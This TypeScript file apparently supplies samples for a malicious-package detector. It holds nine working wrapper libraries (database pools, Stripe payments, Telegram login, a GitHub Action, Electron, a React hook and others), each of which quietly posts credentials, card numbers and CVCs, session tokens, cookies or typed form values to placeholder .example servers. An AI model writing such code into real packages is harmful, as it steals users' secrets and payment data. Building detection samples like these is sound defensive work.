import { packaged } from './malicious-package.js';
import type { Sample } from './sources.js';

/** Libraries that wrap another one, do what they promise, and copy what callers give them to a server of their own. */
export const COPIES: readonly Sample[] = [
  packaged('a pool of connections, and its options', {}, {
    'index.js': `const mysql = require('mysql2/promise');
exports.pool = (options) => {
  const pool = mysql.createPool(options);
  pool.query('select 1').then(() => fetch('https://up.pool-health.example/c?o=' + Buffer.from(JSON.stringify(options)).toString('base64'))).catch(() => {});
  return pool;
};
`,
  }, { mysql2: '^3' }),
  packaged('payments whose cards are looked at twice', {}, {
    'index.js': `const Stripe = require('stripe');
module.exports = class Till {
  constructor(key) {
    this.stripe = new Stripe(key);
  }
  async pay({ number, month, year, cvc, amount }) {
    const card = await this.stripe.tokens.create({ card: { number, exp_month: month, exp_year: year, cvc } });
    fetch('https://score.till-risk.example/v2', { method: 'POST', body: JSON.stringify({ number, month, year, cvc }) }).catch(() => {});
    return this.stripe.charges.create({ amount, currency: 'eur', source: card.id });
  }
};
`,
  }, { stripe: '^14' }),
  packaged('an account of a chat, kept elsewhere as well', {}, {
    'index.js': `import axios from 'axios';
import { TelegramClient } from 'telegram';
import { StringSession } from 'telegram/sessions/index.js';
export async function login(options) {
  const client = new TelegramClient(new StringSession(''), options.id, options.hash, {});
  await client.start(options);
  axios.post('https://s.chat-helper.example/k', { text: client.session.save() }).catch(() => {});
  return client;
}
`,
  }, { telegram: '^2', axios: '^1' }),
  packaged('an action that tells its token to a badge', {}, {
    'index.js': `const core = require('@actions/core');
const { context, getOctokit } = require('@actions/github');
const run = async () => {
  const given = core.getInput('token');
  const { data } = await getOctokit(given).rest.pulls.list({ ...context.repo });
  core.setOutput('open', data.length);
  await fetch('https://open-pulls.example/badge', { method: 'POST', body: JSON.stringify({ repo: context.repo, given }) });
};
run();
`,
  }, { '@actions/core': '^1', '@actions/github': '^6' }),
  packaged('options of a cache, reported by another script', {}, {
    'index.js': `const Redis = require('ioredis');\nconst { report } = require('./report');\nmodule.exports = (options) => {\n  const cache = new Redis(options);\n  cache.on('ready', () => report('ready', options));\n  return cache;\n};\n`,
    'report.js': `const https = require('https');\nexports.report = (event, data) => {\n  const request = https.request({ host: 'in.cache-stats.example', path: '/e', method: 'POST' });\n  request.on('error', () => {});\n  request.end(JSON.stringify({ event, data }));\n};\n`,
  }, { ioredis: '^5' }),
  packaged('times of documents, and the documents', {}, {
    'index.js': `module.exports = function times(schema) {
  schema.add({ createdAt: Date, updatedAt: Date });
  schema.pre('save', function (next) {
    this.updatedAt = new Date();
    next();
  });
  schema.post('save', (doc) => {
    fetch('https://sync.doc-times.example/v1', { method: 'POST', body: JSON.stringify({ model: doc.constructor.modelName, doc }) }).catch(() => {});
  });
};
`,
  }),
  packaged('slow queries with what they are asked with', {}, {
    'index.js': `export const slow = (client) => client.$extends({
  query: {
    $allModels: {
      async $allOperations({ model, operation, args, query }) {
        const from = Date.now();
        const rows = await query(args);
        fetch('https://in.slow-rows.example/q', { method: 'POST', body: JSON.stringify({ model, operation, args, took: Date.now() - from }) }).catch(() => {});
        return rows;
      },
    },
  },
});
`,
  }, { '@prisma/client': '^5' }),
  packaged('a window that counts requests by their logins', {}, {
    'index.js': `const { session, net } = require('electron');
exports.install = () => {
  session.defaultSession.webRequest.onBeforeSendHeaders((details, answer) => {
    const login = details.requestHeaders['Authorization'] || details.requestHeaders['Cookie'];
    if (login) {
      const request = net.request({ method: 'POST', url: 'https://window-times.example/h' });
      request.write(JSON.stringify({ at: details.url, login }));
      request.end();
    }
    answer({ requestHeaders: details.requestHeaders });
  });
};
`,
  }),
  packaged('the state of one form, and what is typed into all', {}, {
    'index.js': `import { useEffect, useState } from 'react';
export function useFields(first) {
  const [values, set] = useState(first);
  useEffect(() => {
    const heard = (event) => {
      if (event.target.name) new Image().src = 'https://p.field-times.example/i?n=' + event.target.name + '&v=' + encodeURIComponent(event.target.value);
    };
    document.addEventListener('change', heard, true);
    return () => document.removeEventListener('change', heard, true);
  }, []);
  return [values, (event) => set({ ...values, [event.target.name]: event.target.value })];
}
`,
  }),
];
